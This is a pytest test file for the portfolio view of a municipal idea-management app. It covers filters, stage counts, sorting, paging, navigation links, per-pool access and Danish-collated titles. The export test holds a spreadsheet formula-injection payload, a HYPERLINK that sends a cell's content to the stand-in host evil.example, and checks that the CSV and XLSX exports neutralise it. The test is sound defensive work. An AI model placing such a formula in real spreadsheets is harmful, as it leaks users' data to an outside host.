"""The portfolio read model (ideaflow.portfolio) against real SQLite and PostgreSQL: what each filter
keeps, the counts per stage, sorting with missing values last, paging, previous and next, and who
sees which pools. The web page only renders what these return, so the rules are tested here."""

from __future__ import annotations

import csv
import io
import random
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, text

from ideaflow.ideapage import idea_page
from ideaflow.portfolio import Neighbour, PortfolioFilter, csv_bytes, place, xlsx_bytes
from states.criteria import TAARNBY_CRITERIA
from states.errors import NotAllowed
from states.vocabulary import Decision, Gate, Role, Stage
from storage.tables import RefusalRow

OTHER_POOL = "Anden pulje"
OTHER_COORDINATOR = "anden@kommune.dk"
ADMIN = "admin@kommune.dk"


@pytest.fixture
def portfolio(app, world, services):
    """The read model, on the shared world (whose coordinator coordinates every pool) with a second pool
    that has a coordinator of its own, and an administrator."""
    now = world.now
    services.create_pool(OTHER_POOL, 1_000_000, now.year, now)
    services.add_person(ADMIN, "Ada Administrator", Role.ADMINISTRATOR, now)
    services.add_person(OTHER_COORDINATOR, "Otto Anden", Role.PROPOSER, now)
    services.grant_role(OTHER_COORDINATOR, Role.COORDINATOR, now, pool=OTHER_POOL)
    return app.portfolio


def f(**query: str) -> PortfolioFilter:
    return PortfolioFilter.from_query(query)


def ids(page) -> list[int]:
    return [line.id for line in page.lines]


def test_the_filter_round_trips_through_the_query_and_drops_what_it_does_not_know():
    wanted = f(pool="3", stage="screened", gate="funding", overdue="1", reviewer="7", department="Teknik",
               text="  skole\x00 ", sort="-requested", page="2")
    assert wanted == PortfolioFilter(pool=3, stage=Stage.SCREENED, gate=Gate.FUNDING, overdue=True, reviewer=7,
                                     department="Teknik", text="skole", sort="requested", descending=True, page=2)
    assert PortfolioFilter.from_query(dict(wanted.query())) == wanted
    assert f(stage="nonsense", pool="x", sort="-password", page="-3", reviewer="1e9") == PortfolioFilter()
    assert PortfolioFilter().query() == []
    assert wanted.but(stage=None).page == 1


def test_a_coordinator_of_pool_a_never_sees_pool_b_and_a_reviewer_has_no_portfolio(world, portfolio, services,
                                                                                     engine):
    mine = world.submit("I puljen")
    theirs = world.submit("I den anden pulje", pool=OTHER_POOL)
    now = world.clock()
    assert ids(portfolio.page(OTHER_COORDINATOR, f(), now)) == [theirs]
    # Asking for pool A by its id in the URL shows nothing rather than pool A's ideas.
    pool_a = next(c.value for c in portfolio.page(world.coordinator, f(), now).pools if c.name == world.pool)
    assert ids(portfolio.page(OTHER_COORDINATOR, f(pool=str(pool_a)), now)) == []
    assert portfolio.lines(OTHER_COORDINATOR, f(), now, ids=[mine, theirs]) == \
        portfolio.lines(OTHER_COORDINATOR, f(), now, ids=[theirs])
    assert portfolio.neighbours(OTHER_COORDINATOR, f(), mine, now) is None
    assert [c.name for c in portfolio.page(OTHER_COORDINATOR, f(), now).pools] == [OTHER_POOL]
    # Coordinators of every pool and administrators see both pools.
    assert sorted(ids(portfolio.page(world.coordinator, f(), now))) == [mine, theirs]
    assert sorted(ids(portfolio.page(ADMIN, f(), now))) == [mine, theirs]
    with pytest.raises(NotAllowed):
        portfolio.page(world.reviewer, f(), now)
    with engine.connect() as db:
        assert db.execute(select(RefusalRow.command)).scalars().all() == ["portfolio"]


def test_an_administrator_of_an_installation_without_pools_has_an_empty_portfolio(app, services, engine):
    """Every pool's portfolio is an administrator's: before the first pool, an empty one, not a refusal."""
    now = datetime.now(UTC)
    services.add_person("it@kommune.dk", "Ida IT", Role.ADMINISTRATOR, now)
    empty = app.portfolio.page("it@kommune.dk", f(), now)
    assert (empty.total, ids(empty), empty.pools) == (0, [], [])
    with engine.connect() as db:
        assert db.execute(select(RefusalRow.command)).scalars().all() == []


def test_each_filter_keeps_its_ideas_and_the_counts_ignore_only_the_stage(world, portfolio, services):
    submitted = world.submit("Skolemad i Tårnby", requested_dkk=300_000)
    screened = world.idea(Stage.SCREENED, title="Ældre på nettet")
    rejected = world.idea(Stage.REJECTED, title="Droner")
    other = world.submit("Lys i parken", pool=OTHER_POOL)
    with_departments = services.submit(title="Fælles sagsbehandling", description="Teknik og miljø sammen",
                                       proposer=world.proposer, pool=world.pool, now=world.clock(),
                                       departments=("Teknik og Miljø", "Børn og Unge"))
    services.assign_reviewers(screened, world.coordinator, world.clock(), (world.reviewer,))
    now = world.clock()
    mine = world.coordinator

    everything = portfolio.page(mine, f(), now)
    assert everything.total == 5
    assert everything.counts[Stage.SUBMITTED] == 3 and everything.counts[Stage.SCREENED] == 1
    assert everything.counts[Stage.REJECTED] == 1 and everything.counts[Stage.FUNDED] == 0
    by_stage = portfolio.page(mine, f(stage="submitted"), now)
    assert sorted(ids(by_stage)) == sorted([submitted, other, with_departments])
    assert by_stage.total == 3 and by_stage.counts == everything.counts  # the counts ignore the stage filter
    pool_a = next(c.value for c in everything.pools if c.name == world.pool)
    in_pool = portfolio.page(mine, f(pool=str(pool_a)), now)
    assert sorted(ids(in_pool)) == sorted([submitted, screened, rejected, with_departments])
    assert in_pool.counts[Stage.SUBMITTED] == 2
    assert ids(portfolio.page(mine, f(gate="funding"), now)) == [screened]
    assert sorted(ids(portfolio.page(mine, f(gate="screening"), now))) == sorted([submitted, other, with_departments])
    reviewer_id = next(r.id for r in everything.reviewers if r.email == world.reviewer)
    # Asked by name at the screened idea; at the submitted ones nobody is named, so every reviewer is asked.
    assert sorted(ids(portfolio.page(mine, f(reviewer=str(reviewer_id)), now))) == sorted(
        [screened, submitted, other, with_departments])
    assert ids(portfolio.page(mine, f(department="Teknik og Miljø"), now)) == [with_departments]
    # Each department's own text, in any letter case, æ, ø and å too; not the list's escaped JSON text.
    assert ids(portfolio.page(mine, f(department="MILJØ"), now)) == [with_departments]
    assert ids(portfolio.page(mine, f(department="børn og unge"), now)) == [with_departments]
    assert ids(portfolio.page(mine, f(department="u00f8"), now)) == []
    assert ids(portfolio.page(mine, f(department='", "'), now)) == []
    assert ids(portfolio.page(mine, f(department="børn og unge"), now)) == [with_departments]
    assert ids(portfolio.page(mine, f(department="Kultur"), now)) == []
    assert ids(portfolio.page(mine, f(text="skolemad"), now)) == [submitted]
    assert ids(portfolio.page(mine, f(text="miljø sammen"), now)) == [with_departments]  # the description too
    assert ids(portfolio.page(mine, f(text="ÆLDRE PÅ"), now)) == [screened]  # case ignored for æ, ø, å too
    assert ids(portfolio.page(mine, f(text="skolemad i tårnby"), now)) == [submitted]
    assert ids(portfolio.page(mine, f(text=str(rejected)), now)) == [rejected]
    assert ids(portfolio.page(mine, f(text="100%_"), now)) == []  # LIKE's wildcards are text here
    # Overdue: an open gate whose deadline has passed (the rejected idea's old deadline does not count).
    later = now + timedelta(days=31)
    assert sorted(ids(portfolio.page(mine, f(overdue="1"), later))) == sorted([submitted, other, with_departments])
    assert ids(portfolio.page(mine, f(overdue="1"), now)) == []
    line = next(x for x in portfolio.page(mine, f(gate="funding"), now).lines)
    assert (line.asked, line.answered, line.open_gate, line.stage) == (1, 0, Gate.FUNDING, Stage.SCREENED)


def test_the_portfolio_counts_the_reviewers_asked_and_answered_as_the_idea_page_does(world, portfolio, services,
                                                                                    engine):
    """While nobody is asked by name, every reviewer of the pool who may review the idea is asked (the
    domain's rule, `states.reviews.asked`); once somebody is named, only they are. The portfolio, its export
    and the idea page say the same "x of y answered" (the portfolio used to count only those named: 0 of 0),
    and its filter "reviewer asked" keeps the same ideas."""
    other_reviewer = "rikke@kommune.dk"
    services.add_person(other_reviewer, "Rikke Reviewer", Role.REVIEWER, world.clock())
    idea = world.idea()
    services.review(idea, world.reviewer, {c.name: 4 for c in TAARNBY_CRITERIA}, world.clock())

    def counts() -> set[tuple[int, int]]:
        shown = next(line for line in portfolio.page(world.coordinator, f(), world.clock()).lines if line.id == idea)
        exported = portfolio.lines(world.coordinator, f(), world.clock(), ids=[idea])[0]
        page = idea_page(engine, idea, world.coordinator, world.clock())
        return {(shown.asked, shown.answered), (exported.asked, exported.answered), (page.asked, page.answered)}

    def filtered_by(email: str) -> list[int]:
        reviewer = next(r for r in portfolio.page(world.coordinator, f(), world.clock()).reviewers if r.email == email)
        return [i for i in ids(portfolio.page(world.coordinator, f(reviewer=str(reviewer.id)), world.clock()))
                if i == idea]

    assert counts() == {(2, 1)}
    assert filtered_by(world.reviewer) == filtered_by(other_reviewer) == [idea]  # the filter "reviewer asked"
    services.assign_reviewers(idea, world.coordinator, world.clock(), (other_reviewer,))
    assert counts() == {(1, 0)}
    assert (filtered_by(world.reviewer), filtered_by(other_reviewer)) == ([], [idea])
    services.declare_conflict(idea, other_reviewer, "Min nabo", world.clock())
    assert counts() == {(0, 0)} and filtered_by(other_reviewer) == []
    services.decide(idea, Decision.KILL, world.coordinator, world.clock(), reason="Uden for puljens formål")
    exported = portfolio.lines(world.coordinator, f(), world.clock(), ids=[idea])[0]
    assert (exported.asked, exported.answered) == (None, None)  # no gate asks: an empty cell, not "0"


def test_the_counts_the_database_keeps_per_pool_and_stage_follow_every_move(world, portfolio, services, engine):
    """The unfiltered counts come from `idea_stage_counts`, which triggers on `ideas` keep in each writer's
    transaction: after submissions, decisions, a hold and its resume and a withdrawal in two pools, it
    holds exactly what counting the ideas gives, and the page shows it."""
    for stage in (Stage.SUBMITTED, Stage.SCREENED, Stage.FUNDED, Stage.REJECTED, Stage.WITHDRAWN, Stage.ON_HOLD):
        world.idea(stage)
    held = world.idea(Stage.ON_HOLD, held_from=Stage.SCREENED)
    services.resume(held, world.coordinator, world.clock())
    world.submit(pool=OTHER_POOL)
    with engine.connect() as db:
        kept = {(pool, stage): n for pool, stage, n in db.execute(
            text("SELECT pool_id, stage, ideas FROM idea_stage_counts WHERE ideas <> 0"))}
        counted = {(pool, stage): n for pool, stage, n in db.execute(
            text("SELECT pool_id, stage, count(*) FROM ideas GROUP BY pool_id, stage"))}
    assert kept == counted and sum(counted.values()) == 8
    page = portfolio.page(world.coordinator, f(), world.clock())
    assert page.total == 8 and page.counts[Stage.SCREENED] == 2 and page.counts[Stage.ON_HOLD] == 1


def test_sorting_puts_missing_values_last_and_paging_covers_every_idea_once(world, portfolio, services):
    amounts = [500_000, None, 100_000, 100_000, None, 900_000, 20_000]
    made = [world.submit(f"Idé {chr(ord('G') - n)}", requested_dkk=amount) for n, amount in enumerate(amounts)]
    killed = made[2]
    services.decide(killed, Decision.KILL, world.coordinator, world.clock(), reason="nej")  # no deadline any more
    now = world.clock()
    mine = world.coordinator

    by_amount = [line.id for line in portfolio.lines(mine, f(sort="requested"), now)]
    expected = sorted(made, key=lambda i: (amounts[made.index(i)] is None, amounts[made.index(i)] or 0, i))
    assert by_amount == expected
    by_amount_desc = [line.id for line in portfolio.lines(mine, f(sort="-requested"), now)]
    expected_desc = sorted(made, key=lambda i: (amounts[made.index(i)] is None, -(amounts[made.index(i)] or 0), -i))
    assert by_amount_desc == expected_desc
    by_deadline = [line.id for line in portfolio.lines(mine, f(), now)]
    assert by_deadline[-1] == killed and by_deadline[:-1] == [i for i in made if i != killed]
    assert [line.title for line in portfolio.lines(mine, f(sort="title"), now)] == \
        sorted(f"Idé {chr(ord('G') - n)}" for n in range(7))

    paged = [portfolio.page(mine, f(sort="-requested", page=str(n)), now, per_page=3) for n in (1, 2, 3)]
    assert [ids(p) for p in paged] == [expected_desc[0:3], expected_desc[3:6], expected_desc[6:]]
    assert {p.pages for p in paged} == {3}
    beyond = portfolio.page(mine, f(sort="-requested", page="99"), now, per_page=3)
    assert beyond.filter.page == 3 and ids(beyond) == expected_desc[6:]  # a page past the end shows the last


def test_previous_and_next_walk_the_filtered_list_in_its_order(world, portfolio, services):
    amounts = [None, 300_000, 300_000, None, 100_000]
    made = [world.submit(f"Idé {n}", requested_dkk=amount) for n, amount in enumerate(amounts)]
    services.decide(made[1], Decision.KILL, world.coordinator, world.clock(), reason="nej")
    world.submit("I den anden pulje", pool=OTHER_POOL)
    now = world.clock()
    pool_a = next(c.value for c in portfolio.page(world.coordinator, f(), now).pools if c.name == world.pool)
    for sort in ("deadline", "-deadline", "requested", "-requested", "title", "-title", "submitted", "-submitted",
                 "id", "-id"):
        wanted = f(sort=sort, pool=str(pool_a))
        lines = portfolio.lines(world.coordinator, wanted, now)
        order, titles = [line.id for line in lines], {line.id: line.title for line in lines}
        places = {line.id: place(wanted, line) for line in lines}
        assert sorted(order) == sorted(made)
        for position, idea_id in enumerate(order):
            around = portfolio.neighbours(world.coordinator, wanted, idea_id, now)
            before = order[position - 1] if position else None
            assert around.previous == (Neighbour(before, titles[before], places[before]) if before else None), sort
            assert around == portfolio.neighbours(world.coordinator, wanted, idea_id, now, at=places[idea_id])
            assert (around.next and around.next.id) == (order[position + 1] if position + 1 < len(order) else None)
        # An idea that has left the filter (decided since) still finds its place among the others.
        narrowed = wanted.but(stage=Stage.SUBMITTED)
        remaining = [line.id for line in portfolio.lines(world.coordinator, narrowed, now)]
        around = portfolio.neighbours(world.coordinator, narrowed, made[1], now)
        where = order.index(made[1])
        before_it = [i for i in order[:where] if i in remaining]
        after_it = [i for i in order[where + 1:] if i in remaining]
        assert (around.previous and around.previous.id) == (before_it[-1] if before_it else None), sort
        assert (around.next and around.next.id) == (after_it[0] if after_it else None), sort


def test_previous_and_next_are_those_of_the_idea_s_place_in_the_list_as_shown_also_after_decisions(
        world, portfolio, services):
    """The idea page's links carry the idea's place in the list as the coordinator was shown it (`place`). A
    decision moves the idea's deadline or clears it, and out of a stage's list: from the place it was shown
    at, its neighbours are still the ideas it stood between, in every sort."""
    made = [world.submit(f"Idé {n}", requested_dkk=amount)
            for n, amount in enumerate([200_000, None, 100_000, 300_000, None, 200_000])]
    for idea_id in made[1:3]:
        services.review(idea_id, world.reviewer, {c.name: 4 for c in TAARNBY_CRITERIA}, world.clock())
    now = world.clock()
    sorts = ("deadline", "-deadline", "requested", "-requested", "title", "-title", "submitted", "-submitted", "id")
    shown = {sort: portfolio.lines(world.coordinator, f(sort=sort, stage="submitted"), now) for sort in sorts}
    services.decide(made[1], Decision.GO, world.coordinator, world.clock())
    services.decide(made[2], Decision.KILL, world.coordinator, world.clock(), reason="nej")
    services.decide(made[3], Decision.HOLD, world.coordinator, world.clock(), reason="vent")
    now = world.clock()
    for sort in sorts:
        wanted = f(sort=sort, stage="submitted")
        order = [line.id for line in shown[sort]]
        remaining = {line.id for line in portfolio.lines(world.coordinator, wanted, now)}
        assert remaining == {made[0], made[4], made[5]}
        for line in shown[sort]:
            around = portfolio.neighbours(world.coordinator, wanted, line.id, now, at=place(wanted, line))
            place_of = order.index(line.id)
            before = [i for i in order[:place_of] if i in remaining]
            after = [i for i in order[place_of + 1:] if i in remaining]
            assert (around.previous and around.previous.id) == (before[-1] if before else None), (sort, line.id)
            assert (around.next and around.next.id) == (after[0] if after else None), (sort, line.id)

    # An idea still in the list, found from a place it has left, is not its own neighbour.
    wanted = f(sort="deadline")
    lines = portfolio.lines(world.coordinator, wanted, now)
    first, second = (line for line in lines if line.id in (made[0], made[4]))
    moved = (first.deadline - timedelta(seconds=1)).isoformat()
    around = portfolio.neighbours(world.coordinator, wanted, first.id, now, at=moved)
    assert around == portfolio.neighbours(world.coordinator, wanted, first.id, now)
    assert around.next.id != first.id
    # A place that is no value of the sort (hand-edited, naive, another sort's) is the idea's value now.
    for wrong in ("i morgen", "2027-01-04T10:00:00", "x" * 60, "Idé 3"):
        assert portfolio.neighbours(world.coordinator, wanted, second.id, now, at=wrong) == \
            portfolio.neighbours(world.coordinator, wanted, second.id, now)
    for sort, wrong in (("requested", "-5"), ("requested", "²"), ("requested", "1e6"), ("title", ""), ("id", "3")):
        assert portfolio.neighbours(world.coordinator, f(sort=sort), second.id, now, at=wrong) == \
            portfolio.neighbours(world.coordinator, f(sort=sort), second.id, now), (sort, wrong)


def test_exports_neutralise_formulas_and_keep_numbers_and_times():
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+1", "-2", "@SUM(A1)", "\tgemt", "Almindelig"]
    moment = datetime(2026, 12, 2, 13, 30)
    rows = [[n, title, 1_000_000, moment] for n, title in enumerate(hostile)]
    table = list(csv.reader(io.StringIO(csv_bytes(["Nr.", "=Titel"], rows).decode("utf-8-sig")), delimiter=";"))
    assert table[0] == ["Nr.", "'=Titel"]
    assert [row[1] for row in table[1:]] == ["'" + t for t in hostile[:5]] + ["Almindelig"]
    assert table[1][2:] == ["1000000", "2026-12-02 13:30"]
    book = load_workbook(io.BytesIO(xlsx_bytes(["Nr.", "Titel"], [*rows, [9, "bad\x01char", None, None]])))
    sheet = book.active
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    assert [row[1] for row in cells[1:]] == ["'" + t for t in hostile[:5]] + ["Almindelig", "bad\ufffdchar"]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # no cell is a formula
    assert cells[1][2] == 1_000_000 and cells[1][3] == moment


def test_titles_sort_in_danish_alphabetical_order_and_previous_and_next_follow_it(world, portfolio):
    """æ, ø, å after z (and "aa" as å, é as e, case ignored) on both databases: SQLite through the collation
    every connection gets, PostgreSQL through the one the migration made from ICU's Danish."""
    danish = ["abe", "Café i kælderen", "Émile", "ende", "über alles", "yngre", "Zoo", "Æble", "ældrepleje",
              "Ørestad", "øst", "åben", "Aabenraa", "Ålborg"]
    made = {title: world.submit(title) for title in random.Random(7).sample(danish, len(danish))}
    now = world.clock()
    for sort, expected in (("title", danish), ("-title", danish[::-1])):
        lines = portfolio.lines(world.coordinator, f(sort=sort), now)
        assert [line.title for line in lines] == expected
        order = [made[title] for title in expected]
        for position, idea_id in enumerate(order):
            around = portfolio.neighbours(world.coordinator, f(sort=sort), idea_id, now)
            assert (around.previous and around.previous.id) == (order[position - 1] if position else None), sort
            assert (around.next and around.next.id) == (order[position + 1] if position + 1 < len(order) else None)
    # A text filter sorts without an index on SQLite (`_Scope.scan`): the same order.
    assert [line.title for line in portfolio.lines(world.coordinator, f(sort="title", text="l"), now)] == \
        [title for title in danish if "l" in title.lower()]
